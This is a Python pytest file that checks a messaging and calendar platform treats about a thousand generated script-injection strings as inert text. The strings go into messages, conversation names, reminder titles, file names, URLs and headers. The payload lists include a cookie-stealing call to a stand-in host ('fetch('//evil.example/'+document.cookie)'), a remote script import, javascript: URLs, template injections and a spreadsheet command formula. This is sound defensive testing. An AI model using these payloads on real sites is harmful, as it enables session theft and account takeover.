"""Promise S8, of what the platform answers: a thousand scripts in texts, names, titles and addresses stay text."""

from html.parser import HTMLParser
from itertools import product
from urllib.parse import quote

import pytest
import requests

from tests.support.client import days_from_now

CALLS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "import('//evil.example/x.js')",
    "top.location='//evil'",
)
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = ("img src=x", "svg", "body", "iframe", "details open", "video autoplay", "input autofocus", "object data=x", "a")
WRAPS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    "<script\t>{}</script\n>", "<svg><script>{}</script></svg>", "<math><mtext><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'>", "javascript:{}", "java\tscript:{}", "[x](javascript:{})",
    "<a href='javascript:{}'>x</a>", "<form action=javascript:{}><button>", "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import'javascript:{}'</style>",
    "<link rel=stylesheet href='data:,*{{x:{}}}'>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>",
    "\u003cscript\u003e{}\u003c/script\u003e", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞", "+ADw-script+AD4-{}+ADw-/script+AD4-", "=cmd|'{}'!A1", "https://evil.example/\"onx='{}'",
)  # fmt: skip
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
BY_HANDLERS = [f"<{tag} {handler}={call}>" for tag, handler, call in product(TAGS, HANDLERS, CALLS)]
BY_WRAPS = [quoted.format(wrap.format(call)) for wrap, call, quoted in product(WRAPS, CALLS, QUOTES)]
SCRIPTS = list(dict.fromkeys([*BY_HANDLERS, *BY_WRAPS, *(f'x" {each} "' for each in BY_HANDLERS)]))[:1000]


def safe(answer: requests.Response, *types: str) -> requests.Response:
    """Nothing that a browser runs: it is one of these types and nothing else, and may load nothing."""
    assert answer.headers["Content-Type"].partition(";")[0] in types, answer.headers["Content-Type"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "script-src" not in policy
    return answer


class Elements(HTMLParser):
    def __init__(self, page: str):
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def test_there_are_a_thousand():
    assert len(SCRIPTS) == 1000


def test_messages_and_names_stay_text(person):
    head, official = person("unit_head"), person("official")
    me = official.get("/me").json()["person"]["id"]
    group = head.post("/conversations", {"kind": "group", "name": SCRIPTS[0], "participants": [{"person_id": me}]})
    assert group.status_code == 201, group.text
    path = f"/conversations/{group.json()['id']}/messages"
    said = ["\n".join(SCRIPTS[number : number + 20]) for number in range(0, len(SCRIPTS), 20)]
    for text in said:
        answer = safe(head.post(path, {"text": text}), "application/json")
        assert answer.status_code == 201, answer.text
    read, cursor = [], None
    while cursor or not read:
        page = safe(
            official.get(path, params={"limit": 200, **({"cursor": cursor} if cursor else {})}), "application/json"
        )
        read += page.json()["items"]
        cursor = page.json()["next_cursor"]
    assert [each["text"] for each in reversed(read)] == said
    for link in (node for message in read for node in nodes(message["body"] or []) if node["kind"] == "link"):
        assert link["href"].startswith(("https://", "/api/v1/", "/tasks/")) and not set(link["href"]) & set("\"'<> "), (
            link
        )
    listed = safe(official.get("/conversations"), "application/json").json()["items"]
    assert SCRIPTS[0] in [each["name"] for each in listed]


def nodes(tree: list[dict]):
    for node in tree:
        yield node
        for inner in node.values():
            if isinstance(inner, list):
                yield from nodes([each for each in inner if isinstance(each, dict)])
                for each in inner:
                    if isinstance(each, list):
                        yield from nodes(each)


def test_titles_and_what_is_printed_of_them_stay_text(person):
    official = person("official")
    for script in SCRIPTS[::50]:
        answer = official.post("/reminders", {"title": script, "starts_at": f"{days_from_now(9)}T08:00:00+07:00"})
        assert safe(answer, "application/json").json()["title"] == " ".join(script.split())
    feed = official.post("/calendar-feed").json()["url"]
    calendar = safe(requests.get(feed, headers={"Accept": "text/html"}, timeout=30), "text/calendar")
    assert "alert(1)" in calendar.text
    assert official.request("DELETE", "/calendar-feed").status_code == 204
    safe(person("unit_head").get("/exception-board.pdf"), "application/pdf")


def test_a_file_goes_out_as_a_file(person):
    official = person("official")
    for script in SCRIPTS[::100]:
        name = quote(f"{script}.txt", safe="")
        sent = {
            "Content-Type": "application/octet-stream",
            "Content-Disposition": f"attachment; filename*=UTF-8''{name}",
        }
        made = official.request("POST", "/files", data=script.encode(), headers=sent | {"Idempotency-Key": name[:200]})
        if made.status_code != 201:  # told by its content, it is a page
            assert safe(made, "application/problem+json").json()["code"] == "file_type_refused", made.text
            continue
        got = safe(official.get(f"/files/{made.json()['id']}"), "text/plain", "application/octet-stream")
        assert got.headers["Content-Disposition"].startswith("attachment; ")
        assert got.headers["Content-Security-Policy"].startswith("sandbox")


@pytest.mark.parametrize("accept", ["application/json", "text/html"])
def test_addresses_and_headers_are_not_said_again(platform, accept):
    session, base = requests.Session(), f"{platform.base_url}/api/v1"
    for number, script in enumerate(SCRIPTS):
        headers = {"Accept": accept, "Accept-Language": script.encode(), "X-Request-Id": script.encode()}
        headers = {name: value.replace(b"\n", b"").replace(b"\t", b"") if isinstance(value, bytes) else value
                   for name, value in headers.items()}  # fmt: skip
        place, told = [
            (f"{base}/{quote(script, safe='')}", {}),
            (f"{base}/oidc/{quote(script, safe='')}/start", {}),
            (f"{base}/oidc/nobody/start", {"return_to": f"/{script}"}),
            (f"{base}/oidc/nobody/callback", {"state": script, "error": script, script: script}),
        ][number % 4]
        answer = session.get(place, params=told, headers=headers, allow_redirects=False, timeout=30)
        assert 400 <= answer.status_code < 500
        safe(answer, "application/problem+json", "text/html")
        if answer.headers["Content-Type"].startswith("text/html"):
            assert accept == "text/html"
            elements = Elements(answer.text).found
            assert {tag for tag, _ in elements} <= {
                "html",
                "head",
                "meta",
                "title",
                "body",
                "h1",
                "p",
                "a",
                "small",
                "span",
            }
            assert [own["href"] for tag, own in elements if tag == "a"] == ["/"]
        else:
            assert script not in answer.text or "<" not in script
